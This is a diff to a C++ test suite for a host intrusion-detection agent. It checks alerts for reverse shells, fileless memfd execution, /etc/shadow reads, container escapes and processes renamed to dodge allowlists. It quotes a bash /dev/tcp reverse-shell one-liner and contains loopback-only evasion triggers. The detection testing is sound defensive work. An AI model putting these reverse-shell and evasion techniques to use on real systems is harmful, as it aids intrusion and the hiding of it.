@@ -9,7 +9,10 @@
 #include <linux/bpf.h>
 #include <netinet/in.h>
 #include <linux/capability.h>
+#include <sched.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -66,6 +69,23 @@ class DefaultRules : public ::testing::Test {
   static nlohmann::json wait_for_container(const std::string& rule, const RuncContainer& container) {
     const std::string id = container.id().substr(0, 12);
     return wait_for(rule, [id](const nlohmann::json& a) { return a.contains("container") && a.dump().find(id) != std::string::npos; });
+  }
+  // Waits until the agent has processed everything up to now: a marker read of /etc/shadow by a
+  // shell whose command line names `tag`, which the Read sensitive file rule reports.
+  static void wait_for_marker(const std::string& tag) {
+    const CommandResult marker = run({"/bin/sh", "-c", ": < /etc/shadow # " + tag});
+    ASSERT_EQ(marker.exit_code, 0);
+    auto alert = wait_for("Read sensitive file", [&](const nlohmann::json& a) {
+      return a["output_fields"].value("proc.cmdline", "").find(tag) != std::string::npos;
+    });
+    ASSERT_FALSE(alert.is_null()) << "the marker never arrived";
+  }
+  // Whether this test process is among the alert's process and its ancestors.
+  static bool started_by_this_test(const nlohmann::json& alert) {
+    if (alert.value("pid", 0) == ::getpid()) return true;
+    for (const auto& ancestor : alert.value("process_tree", nlohmann::json::array()))
+      if (ancestor.value("pid", 0) == ::getpid()) return true;
+    return false;
   }
   static std::string all_alerts() {
     std::string text;
@@ -157,16 +177,140 @@ TEST_F(DefaultRules, ReverseShell) {
   const pid_t pid = in_child([&] {
     int s = connect_loopback(listener.port);
     if (s < 0) return 1;
-    // What `bash -i >& /dev/tcp/host/port 0>&1` does before running the shell.
+    // What `bash -i >& /dev/tcp/host/port 0>&1` does before running the shell, then the shell.
     if (::dup2(s, 0) != 0 || ::dup2(s, 1) != 1) return 2;
-    return 0;
+    ::execl("/bin/sh", "sh", "-c", "exit 0", static_cast<char*>(nullptr));
+    return 3;
   });
   ASSERT_GT(pid, 0);
   auto alert = wait_for_pid("Reverse shell", pid);
   ASSERT_FALSE(alert.is_null()) << all_alerts();
   EXPECT_EQ(alert["priority"], "Critical");
-  const std::string connection = alert["output_fields"]["fd.name"];
+  EXPECT_EQ(alert["output_fields"]["proc.name"], "sh");
+  const std::string connection = alert["output_fields"]["proc.stdin.name"];
   EXPECT_NE(connection.find(":" + std::to_string(listener.port)), std::string::npos) << connection;
+}
+
+// An interpreter that puts its own connection on stdin and stdout (and then relays a shell
+// through a pty, so no shell ever has the socket): caught at the dup.
+TEST_F(DefaultRules, ReverseShellByAnInterpreter) {
+  LoopbackListener listener;
+  ASSERT_GE(listener.fd, 0);
+  const CommandResult python = run({"/usr/bin/python3", "-I", "-S", "-c",
+                                    "import os, socket, sys\n"
+                                    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+                                    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n",
+                                    std::to_string(listener.port)});
+  ASSERT_EQ(python.exit_code, 0) << python.err;
+  auto alert = wait_for("Reverse shell", [&](const nlohmann::json& a) {
+    return a["output_fields"].value("proc.name", "") == "python3" &&
+           a["output_fields"].value("fd.name", "").find(":" + std::to_string(listener.port)) != std::string::npos;
+  });
+  ASSERT_FALSE(alert.is_null()) << all_alerts();
+  EXPECT_EQ(alert["output_fields"]["evt.type"], "dup2");
+}
+
+// inetd, tcpsvd, xinetd: a server accepts a connection and hands it to a child as its stdin and
+// stdout, here a shell script. Not a reverse shell: the connection was opened from outside.
+TEST_F(DefaultRules, InetdStyleServerHandingAConnectionToAShellIsNotAReverseShell) {
+  const std::size_t before = alerts().size();
+  TempDir dir;
+  write_text(dir / "handler.sh", "read line\necho \"you said $line\"\n");
+  const CommandResult served = run(
+      {"/usr/bin/python3", "-I", "-S", "-c",
+       "import os, socket, sys\n"
+       "server = socket.socket(); server.bind(('127.0.0.1', 0)); server.listen(1)\n"
+       "if os.fork() == 0:\n"
+       "    conn, _ = server.accept()\n"
+       "    os.dup2(conn.fileno(), 0); os.dup2(conn.fileno(), 1)\n"
+       "    os.execv('/bin/sh', ['sh', sys.argv[1]])\n"
+       "client = socket.create_connection(server.getsockname())\n"
+       "client.sendall(b'hello\\n')\n"
+       "reply = client.makefile().readline()\n"
+       "os.wait()\n"
+       "sys.exit(0 if reply == 'you said hello\\n' else 1)\n",
+       dir / "handler.sh"});
+  ASSERT_EQ(served.exit_code, 0) << served.out << served.err;
+  wait_for_marker("inetd-" + std::to_string(::getpid()));
+  const auto after = alerts();
+  for (std::size_t i = before; i < after.size(); ++i) EXPECT_NE(after[i].value("rule", ""), "Reverse shell") << after[i].dump();
+}
+
+// A web server's per-connection child (busybox httpd dups the accepted socket onto 0 and 1) and
+// its CGI program, a shell script reading and writing pipes: no reverse shell.
+TEST_F(DefaultRules, WebServerAndItsCgiShellAreNotAReverseShell) {
+  const std::size_t before = alerts().size();
+  TempDir dir;
+  ::mkdir((dir / "www").c_str(), 0755);
+  ::mkdir((dir / "www/cgi-bin").c_str(), 0755);
+  write_text(dir / "www/cgi-bin/hello.cgi", "#!/bin/sh\necho 'Content-Type: text/plain'\necho\necho \"hello from cgi\"\n");
+  ::chmod((dir / "www/cgi-bin/hello.cgi").c_str(), 0755);
+  std::uint16_t port = 0;
+  {
+    LoopbackListener probe_port;  // a free port, released for httpd
+    port = probe_port.port;
+  }
+  const CommandResult web = run_shell(
+      "busybox httpd -f -p 127.0.0.1:" + std::to_string(port) + " -h " + shell_quote(dir / "www") + " & pid=$!; "
+      "for i in $(seq 50); do python3 -c \"import urllib.request,sys; "
+      "sys.stdout.write(urllib.request.urlopen('http://127.0.0.1:" + std::to_string(port) +
+          "/cgi-bin/hello.cgi').read().decode())\" 2>/dev/null && break; sleep 0.1; done; rc=$?; kill $pid; exit $rc",
+      60);
+  EXPECT_EQ(web.exit_code, 0) << web.err;
+  EXPECT_NE(web.out.find("hello from cgi"), std::string::npos) << web.out;
+  wait_for_marker("cgi-" + std::to_string(::getpid()));
+  const auto after = alerts();
+  for (std::size_t i = before; i < after.size(); ++i) EXPECT_NE(after[i].value("rule", ""), "Reverse shell") << after[i].dump();
+}
+
+// A program that exits at once, exec'd from a memfd by its /proc/self/fd path with a spoofed
+// argv[0], and through execveat(fd, "", AT_EMPTY_PATH): the kernel says it is a memfd whatever
+// /proc shows by the time the agent looks.
+TEST_F(DefaultRules, FilelessExecutionOfAShortLivedProgram) {
+  const std::string program = read_text("/usr/bin/true");
+  ASSERT_FALSE(program.empty());
+  for (const bool by_execveat : {false, true}) {
+    SCOPED_TRACE(by_execveat ? "execveat(AT_EMPTY_PATH)" : "execv(/proc/self/fd/N)");
+    const pid_t pid = ::fork();
+    if (pid == 0) {
+      int fd = static_cast<int>(::syscall(SYS_memfd_create, "x", 0));
+      if (fd < 0 || ::write(fd, program.data(), program.size()) != static_cast<ssize_t>(program.size())) ::_exit(1);
+      const char* argv[] = {"[kworker/0:1]", nullptr};
+      const char* envp[] = {nullptr};
+      if (by_execveat) {
+        ::syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
+      } else {
+        const std::string path = "/proc/self/fd/" + std::to_string(fd);
+        ::execve(path.c_str(), const_cast<char* const*>(argv), const_cast<char* const*>(envp));
+      }
+      ::_exit(2);
+    }
+    int status = 0;
+    ASSERT_EQ(::waitpid(pid, &status, 0), pid);
+    ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
+    auto alert = wait_for_pid("Fileless execution", pid);
+    ASSERT_FALSE(alert.is_null()) << all_alerts();
+    EXPECT_EQ(alert["output_fields"]["proc.exepath"], "/memfd:x");
+  }
+}
+
+// A program in /dev/shm run through a symlink elsewhere: the executable's resolved path counts.
+TEST_F(DefaultRules, FilelessExecutionThroughASymlinkIntoDevShm) {
+  TempDir dir;
+  const std::string target = "/dev/shm/vigil-test-" + std::to_string(::getpid());
+  ASSERT_EQ(::system(("cp /usr/bin/true " + shell_quote(target)).c_str()), 0);
+  const std::string link = dir / "harmless";
+  ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0);
+  const pid_t pid = in_child([&] {
+    ::execl(link.c_str(), "harmless", static_cast<char*>(nullptr));
+    return 1;
+  });
+  ::unlink(target.c_str());
+  ASSERT_GT(pid, 0);
+  auto alert = wait_for_pid("Fileless execution", pid);
+  ASSERT_FALSE(alert.is_null()) << all_alerts();
+  EXPECT_EQ(alert["output_fields"]["proc.exepath"], target);
+  EXPECT_EQ(alert["output_fields"]["proc.name"], "harmless");
 }
 
 TEST_F(DefaultRules, FilelessExecution) {
@@ -220,6 +364,21 @@ TEST_F(DefaultRules, ReadSensitiveFile) {
   });
   ASSERT_FALSE(alert.is_null()) << all_alerts();
   EXPECT_EQ(alert["priority"], "Warning");
+}
+
+// A process that renames itself to a reader the rule allows (sshd) is still the program it runs.
+TEST_F(DefaultRules, ReadSensitiveFileAfterRenamingToAnAllowedName) {
+  const pid_t pid = in_child([] {
+    if (::prctl(PR_SET_NAME, "sshd") != 0) return 1;
+    const int fd = ::open("/etc/shadow", O_RDONLY);
+    if (fd < 0) return 2;
+    ::close(fd);
+    return 0;
+  });
+  ASSERT_GT(pid, 0);
+  auto alert = wait_for_pid("Read sensitive file", pid);
+  ASSERT_FALSE(alert.is_null()) << all_alerts();
+  EXPECT_EQ(alert["output_fields"]["fd.name"], "/etc/shadow");
 }
 
 // No exec between the directory change and the open: the shell's builtin cd, then a redirect
@@ -296,6 +455,109 @@ TEST_F(DefaultRules, ConnectionToMiningPoolPort) {
   auto alert = wait_for_pid("Connection to mining pool port", pid);
   ASSERT_FALSE(alert.is_null()) << all_alerts();
   EXPECT_EQ(alert["output_fields"]["fd.sport"], "3333");
+}
+
+nlohmann::json field(const nlohmann::json& alert, const char* name) { return alert["output_fields"].value(name, ""); }
+
+// The container rules, for containers whatever runs them and however their cgroups are named:
+// each alert carries the runtime's id and name (no cgroup name gives these away).
+TEST_F(DefaultRules, ContainerRulesFireWhateverTheRuntimeAndCgroup) {
+  struct Case {
+    const char* what;
+    RuncOptions options;
+  };
+  const Case cases[] = {
+      {"runc, a plain name, no cgroupsPath", {.plain_name = true}},
+      {"runc, a plain name, a systemd-style cgroup", {.plain_name = true, .cgroups_path = "/system.slice/runc-{id}.scope"}},
+      {"crun", {.runtime = OciRuntime::crun, .plain_name = true}},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.what);
+    if (!RuncContainer::available(c.options.runtime)) {
+      VIGIL_REQUIRE(false, std::string(c.what) + ": runtime not installed (scripts/deps.txt)");
+    }
+    RuncOptions options = c.options;
+    options.extra_applets = {"dpkg"};
+    auto started = RuncContainer::start(options);
+    ASSERT_TRUE(started) << started.error();
+    const std::string id = (*started)->id();
+    const auto in_this_container = [&](const nlohmann::json& a) { return field(a, "container.id") == id; };
+    ASSERT_EQ((*started)->exec({"sh", "-c", "true"}).exit_code, 0);
+    auto shell = wait_for("Shell in container", in_this_container);
+    ASSERT_FALSE(shell.is_null()) << all_alerts();
+    EXPECT_EQ(field(shell, "container.name"), id) << "runc and crun have no names: the id";
+    EXPECT_EQ(field(shell, "proc.name"), "sh");
+    (*started)->exec({"dpkg", "--version"});
+    auto package = wait_for("Package manager in container", in_this_container);
+    ASSERT_FALSE(package.is_null()) << all_alerts();
+    EXPECT_EQ(field(package, "container.name"), id);
+  }
+}
+
+// `unshare --fork --pid --mount` and chroot: a container no runtime knows, named after its pid
+// namespace (docs/state.md).
+TEST_F(DefaultRules, ContainerRulesFireForAHandMadeContainer) {
+  VIGIL_REQUIRE(UnsharedProcess::available(), "unshare, chroot and a static /bin/busybox");
+  auto box = UnsharedProcess::start({.args = {"sh", "-c", "sleep 300"}});
+  ASSERT_TRUE(box) << box.error();
+  struct stat ns{};
+  ASSERT_EQ(::stat(("/proc/" + std::to_string((*box)->inner_pid()) + "/ns/pid").c_str(), &ns), 0);
+  const std::string id = "pidns-" + std::to_string(ns.st_ino);
+  auto shell = wait_for("Shell in container", [&](const nlohmann::json& a) { return field(a, "container.id") == id; });
+  ASSERT_FALSE(shell.is_null()) << id << "\n" << all_alerts();
+  EXPECT_EQ(field(shell, "proc.name"), "sh");
+}
+
+// A host process in a private pid namespace (a sandbox) or mount namespace (PrivateTmp=) is on
+// the host: its alerts say so, and no container rule fires for its shell.
+TEST_F(DefaultRules, PrivateNamespacesOnTheHostAreTheHost) {
+  VIGIL_REQUIRE(UnsharedProcess::available(), "unshare, chroot and a static /bin/busybox");
+  const std::size_t before = alerts().size();
+  for (const bool own_pid_namespace : {true, false}) {
+    SCOPED_TRACE(own_pid_namespace ? "own pid namespace" : "own mount namespace");
+    auto sandbox = UnsharedProcess::start({.pid = own_pid_namespace,
+                                           .mount = !own_pid_namespace,
+                                           .chroot = false,
+                                           .args = {"/bin/sh", "-c", ": < /etc/shadow; sleep 300"}});
+    ASSERT_TRUE(sandbox) << sandbox.error();
+    auto read = wait_for_pid("Read sensitive file", (*sandbox)->inner_pid());
+    ASSERT_FALSE(read.is_null()) << all_alerts();
+    EXPECT_EQ(field(read, "container.id"), "host");
+  }
+  wait_for_marker("private-ns-" + std::to_string(::getpid()));
+  const auto after = alerts();
+  for (std::size_t i = before; i < after.size(); ++i) EXPECT_NE(after[i].value("rule", ""), "Shell in container") << after[i].dump();
+}
+
+// A process in a container that renames itself to the runtime's name before mounting is still
+// not the runtime: allowlists go by the executable's path.
+TEST_F(DefaultRules, ContainerEscapeAfterRenamingToTheRuntimesName) {
+  auto box = container();
+  ASSERT_TRUE(box);
+  const pid_t init = box->init_pid();
+  const pid_t pid = in_child([&] {
+    // Join the container the way `runc exec` does, then act as a process of it.
+    const int mnt = ::open(("/proc/" + std::to_string(init) + "/ns/mnt").c_str(), O_RDONLY);
+    const int pidns = ::open(("/proc/" + std::to_string(init) + "/ns/pid").c_str(), O_RDONLY);
+    if (mnt < 0 || pidns < 0 || ::setns(pidns, CLONE_NEWPID) != 0 || ::setns(mnt, CLONE_NEWNS) != 0) return 1;
+    const pid_t inside = ::fork();
+    if (inside == 0) {
+      ::prctl(PR_SET_NAME, "runc:[2:INIT]");
+      ::mount("none", "/tmp", "tmpfs", 0, nullptr);  // whether it works or not, the attempt counts
+      ::_exit(0);
+    }
+    int status = 0;
+    return ::waitpid(inside, &status, 0) == inside ? 0 : 2;
+  });
+  ASSERT_GT(pid, 0);
+  // proc.name is the name this program got at exec, not the one it gave itself.
+  std::string own_name = read_text("/proc/self/comm");
+  while (!own_name.empty() && own_name.back() == '\n') own_name.pop_back();
+  auto alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
+    return field(a, "container.id") == box->id().substr(0, 12) && field(a, "evt.type") == "mount" &&
+           field(a, "proc.name") == own_name;
+  });
+  ASSERT_FALSE(alert.is_null()) << own_name << "\n" << all_alerts();
 }
 
 TEST_F(DefaultRules, ContainerEscapeAttempts) {
@@ -391,10 +653,15 @@ TEST_F(DefaultRules, BenignWorkloadRaisesNoAlert) {
           "rc=$?; kill $(cat " + shell_quote(dir / "web.pid") + "); exit $rc",
       60);
   EXPECT_EQ(web.exit_code, 0) << web.out << web.err << read_text(dir / "web.log");
-  std::this_thread::sleep_for(1s);  // let the agent drain
+  wait_for_marker("benign-" + std::to_string(::getpid()));  // the agent has seen all of it
   const auto after = alerts();
   std::string unexpected;
-  for (std::size_t i = before; i < after.size(); ++i) unexpected += after[i].dump() + "\n";
+  for (std::size_t i = before; i < after.size(); ++i) {
+    // Only what this workload did: the agent sees the whole host, where other tests may run.
+    if (!started_by_this_test(after[i]) || after[i]["output_fields"].value("proc.cmdline", "").find("benign-") != std::string::npos)
+      continue;
+    unexpected += after[i].dump() + "\n";
+  }
   EXPECT_TRUE(unexpected.empty()) << unexpected;
 }
 
